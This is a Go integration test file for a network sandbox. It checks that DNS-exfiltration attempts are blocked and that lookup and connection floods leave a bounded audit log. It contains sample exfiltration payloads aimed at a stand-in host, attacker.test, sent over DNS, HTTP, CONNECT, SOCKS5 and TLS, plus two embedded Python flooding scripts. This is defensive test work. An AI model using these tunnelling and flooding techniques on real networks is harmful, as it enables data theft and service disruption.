// SPDX-License-Identifier: Apache-2.0

package integration

import (
	"encoding/binary"
	"fmt"
	"net/netip"
	"os/exec"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/dns/dnsmessage"
)

func lookPath(name string) (string, error) { return exec.LookPath(name) }

func mustAddr(s string) netip.Addr { return netip.MustParseAddr(s) }

func addrs(a ...netip.Addr) []netip.Addr { return a }

// question is a DNS query on the wire.
func question(t *testing.T, name string, kind dnsmessage.Type) string {
	t.Helper()
	m := dnsmessage.Message{
		Header:    dnsmessage.Header{ID: 7, RecursionDesired: true},
		Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(name + "."), Type: kind, Class: dnsmessage.ClassINET}},
	}
	b, err := m.Pack()
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// onStream puts the length before a message (RFC 1035, section 4.2.2).
func onStream(m string) string {
	return string(binary.BigEndian.AppendUint16(nil, uint16(len(m)))) + m
}

// bytesOf takes back what latin1 did.
func bytesOf(s string) []byte {
	var b []byte
	for _, r := range s {
		b = append(b, byte(r))
	}
	return b
}

// THREATS "DNS exfiltration": a lookup gives nothing out. The host's resolver is asked about allowed names alone, when
// they are connected to.
func TestM8LookupsStayInside(t *testing.T) {
	t.Parallel() // it mostly waits
	x := newExit(t)
	resolver := x.resolver
	secret := "c2VjcmV0LWRhdGE.attacker.test"
	var tries []exchange
	for name, q := range map[string]string{
		"unknown A":   question(t, secret, dnsmessage.TypeA),
		"unknown TXT": question(t, secret, dnsmessage.TypeTXT),
		"unknown ANY": question(t, secret, dnsmessage.TypeALL),
		"unknown PTR": question(t, "1.2.0.192.in-addr.arpa", dnsmessage.TypePTR),
		"below":       question(t, "secret-data.repo.test", dnsmessage.TypeA),
		"allowed":     question(t, "repo.test", dnsmessage.TypeA),
		"allowed TXT": question(t, "repo.test", dnsmessage.TypeTXT),
	} {
		tries = append(tries,
			exchange{Name: name + " udp", Net: "udp", To: resolveAt, Send: []string{q}},
			exchange{Name: name + " tcp", To: resolveAt, Send: []string{onStream(q)}},
			exchange{Name: name + " elsewhere", Net: "udp", To: "192.0.2.53:53", Send: []string{q}},
			exchange{Name: name + " elsewhere tcp", To: "192.0.2.53:53", Send: []string{onStream(q)}})
	}
	tries = append(tries,
		exchange{Name: "in a URL", To: proxyAt, Send: []string{"GET http://" + secret + "/ HTTP/1.1\r\nHost: " + secret + "\r\nConnection: close\r\n\r\n"}},
		exchange{Name: "in a CONNECT", To: proxyAt, Send: []string{"CONNECT " + secret + ":443 HTTP/1.1\r\nHost: " + secret + "\r\n\r\n"}},
		exchange{Name: "in SOCKS5", To: proxyAt, Send: []string{"\x05\x01\x00", "\x05\x01\x00\x03" + string(rune(len(secret))) + secret + "\x01\xbb"}},
		exchange{Name: "in a hello", To: "192.0.2.1:443", TLS: &secret, Send: []string{"x"}})
	o := x.opts("ring2", "--allow", "repo.test")
	got, r := x.raw(o, tries...)
	r.want(t, 0, "exited")
	if asked := resolver.Asked(); len(asked) != 0 {
		t.Errorf("the host's resolver was asked about %v, want nothing: no allowed name was connected to", asked)
	}
	for _, tt := range tries {
		if tt.Net != "udp" && tt.To != resolveAt {
			continue
		}
		b := bytesOf(got[tt.Name].Reply)
		if tt.Net == "" && len(b) > 2 {
			b = b[2:]
		}
		if len(b) == 0 && strings.Contains(tt.Name, "elsewhere") {
			continue // not caught and nowhere to go: as good as an answer
		}
		var m dnsmessage.Message
		if err := m.Unpack(b); err != nil {
			t.Errorf("%s: got %q %s: %v", tt.Name, b, got[tt.Name].Error, err)
			continue
		}
		switch {
		case strings.HasPrefix(tt.Name, "allowed TXT"):
			if m.RCode != dnsmessage.RCodeSuccess || len(m.Answers) != 0 {
				t.Errorf("%s: got %v, %d answers", tt.Name, m.RCode, len(m.Answers))
			}
		case strings.HasPrefix(tt.Name, "allowed"):
			if len(m.Answers) != 1 || !netip.MustParsePrefix("198.18.0.0/15").Contains(netip.AddrFrom4(m.Answers[0].Body.(*dnsmessage.AResource).A)) {
				t.Errorf("%s: got %v, want one synthetic address", tt.Name, m.Answers)
			}
		case len(m.Answers) != 0 || m.RCode == dnsmessage.RCodeSuccess:
			t.Errorf("%s: got %v with %d answers", tt.Name, m.RCode, len(m.Answers))
		case strings.HasSuffix(tt.Name, " A udp") && m.RCode != dnsmessage.RCodeNameError:
			t.Errorf("%s: got %v, want NXDOMAIN", tt.Name, m.RCode)
		}
	}
}

const flood = `
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
got = 0
for i in range(20000):
    label = b"x%06d" % i
    s.sendto(struct.pack(">HHHHHH", i & 65535, 256, 1, 0, 0, 0) + bytes([len(label)]) + label + b"\x08attacker\x04test\x00\x00\x01\x00\x01", ("127.0.0.1", 53))
    try:
        s.recv(512); got += 1
    except TimeoutError: pass
print(got)`

const knock = `
import http.client
for i in range(2000):
    c = http.client.HTTPConnection("127.0.0.1", 7601, timeout=10)
    try:
        c.request("GET", "http://h%d.attacker.test/" % i); c.getresponse().read()
    except OSError: pass
    c.close()
print("done")`

// THREATS "a notification flood": refused lookups and connections without number leave a bounded account, whose counts
// still say how many there were.
func TestM8FloodLeavesABoundedAudit(t *testing.T) {
	t.Parallel()
	for name, program := range map[string]string{"lookups": flood, "connections": knock} {
		t.Run(name, func(t *testing.T) {
			t.Parallel() // it mostly waits
			x := newExit(t)
			before := x.n.audit("node")
			x.file("flood.py", program)
			r := x.run(x.opts("ring2", "--allow", "repo.test"), "python3", "flood.py")
			// It may also end as a breach; what it may not is fill the disk.
			all := x.n.audit("node")[len(before):]
			if len(all) > 400 {
				t.Errorf("%d entries in the audit; exit %d, %s", len(all), r.exit, r.status.Reason)
			}
			var counted float64
			for _, e := range slices.Concat(calls(all, "dns"), calls(all, "egress")) {
				n, _ := e.Data["count"].(float64)
				counted += max(1, n)
				if s := fmt.Sprint(e.Data); strings.Contains(s, "x000") && n > 1 {
					t.Errorf("a record of many names one of them: %s", s)
				}
			}
			if counted < 100 {
				t.Errorf("records count %v refusals", counted)
			}
		})
	}
}
